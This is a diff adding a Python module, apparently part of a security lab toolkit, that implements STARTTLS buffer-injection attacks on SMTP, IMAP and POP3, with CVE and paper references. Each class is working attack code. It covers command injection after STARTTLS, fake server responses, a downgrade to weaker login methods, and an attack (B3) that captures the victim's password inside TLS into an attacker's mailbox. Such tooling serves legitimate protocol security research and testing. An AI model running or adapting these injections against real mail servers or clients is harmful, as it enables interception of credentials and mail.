@@ -1,0 +1,91 @@
+"""Attacks on the buffer, B1 to B5: what was said in clear text crosses into TLS, because somebody has kept it.
+
+Both ends of the TLS are genuine, so no certificate helps. RFC 3207 §4.2, RFC 9051 §6.2.1 and RFC 2595 §4 say what to
+forget.
+"""
+
+from typing import ClassVar
+
+from labkit.attacks import speech
+from labkit.attacks.account import ADDRESS, NAME, PASSWORD
+from labkit.attacks.actions import Replace
+from labkit.attacks.vector import Answered, Line, Vector
+
+MARK = "X-MALLORY"
+"""A capability that no server has: whoever believes in it has believed the attacker."""
+_KEEPS_BUFFER = {"quirks": ("keeps the buffer",)}
+
+
+class CommandInjection(Vector):
+    """Puts a command behind STARTTLS, in the same segment: a server that keeps its buffer runs it inside TLS."""
+
+    id = "B1"
+    source = "CVE-2011-0411 (Postfix), CVE-2024-34083 (aiosmtpd)"
+    server: ClassVar = _KEEPS_BUFFER
+    _COMMANDS: ClassVar = {"SMTP": "NOOP", "IMAP": "NOOP", "POP3": "CAPA"}
+
+    def on_line(self, line: Line) -> Answered:
+        if not speech.upgrades(line):
+            return None
+        return Replace(line.data + speech.command(line.dialect.name, self._COMMANDS[line.dialect.name]))
+
+
+class ResponseInjection(Vector):
+    """Puts an answer behind the go-ahead: a client that keeps its buffer believes it came inside TLS."""
+
+    id = "B2"
+    source = "CVE-2020-14954 (Mutt), CVE-2021-22947 (curl)"
+    offered: ClassVar = {"SMTP": (MARK,), "IMAP": (MARK,), "POP3": (MARK,)}
+    """Dialect -> what the answer says that the server offers."""
+    marks = (MARK,)
+
+    def on_line(self, line: Line) -> Answered:
+        if line.kind != "go-ahead":
+            return None
+        name = line.dialect.name
+        return Replace(line.data + speech.told(name, self.offered[name], speech.next_tag(speech.tag(line))))
+
+
+class StealByInjection(Vector):
+    """Logs in as the attacker and begins a message, all behind STARTTLS: what the victim then says inside TLS, with its
+    password, becomes that message, and lies in the attacker's mailbox.
+
+    In SMTP each injected command earns just the reply that the victim waits for. In IMAP the size of the message has to
+    be known before: `login` is how many bytes the victim's name, a space and its password have; an attacker tries.
+    """
+
+    id = "B3"
+    protocols = ("SMTP", "IMAP")
+    source = "Poddebniak et al., USENIX Security 2021, §5"
+    server: ClassVar = _KEEPS_BUFFER
+
+    def __init__(self, login: int = len('alice "hunter2"')) -> None:
+        self.login = login
+
+    def on_line(self, line: Line) -> Answered:
+        return Replace(line.data + _STEAL[line.dialect.name](line, self.login)) if speech.upgrades(line) else None
+
+
+def _steal_mail(line: Line, _: int) -> bytes:
+    envelope = f"MAIL FROM:<{ADDRESS}>\r\nRCPT TO:<{ADDRESS}>\r\nDATA\r\n"
+    return b"EHLO mallory.lab.test\r\n" + speech.login("SMTP", NAME, PASSWORD) + envelope.encode()
+
+
+def _steal_upload(line: Line, login: int) -> bytes:
+    first = speech.next_tag(speech.tag(line))
+    second, third = speech.next_tag(first), speech.next_tag(speech.next_tag(first))
+    swallowed = len(f"{first} CAPABILITY\r\n{second} LOGIN ") + login
+    asks = speech.command("IMAP", "CAPABILITY", first)
+    upload = speech.command("IMAP", f"APPEND INBOX {{{swallowed}}}", third)
+    return asks + speech.login("IMAP", NAME, PASSWORD, second) + upload
+
+
+_STEAL = {"SMTP": _steal_mail, "IMAP": _steal_upload}
+
+
+class WeakerLogin(ResponseInjection):
+    """Injects an answer that offers a weaker way to log in than the server does, and the client takes it inside TLS."""
+
+    id = "B5"
+    source = "GHSA-9j88-vvj5-vhgr (MailKit)"
+    offered: ClassVar = {"SMTP": ("AUTH LOGIN", MARK), "IMAP": ("AUTH=LOGIN", MARK), "POP3": ("USER", MARK)}
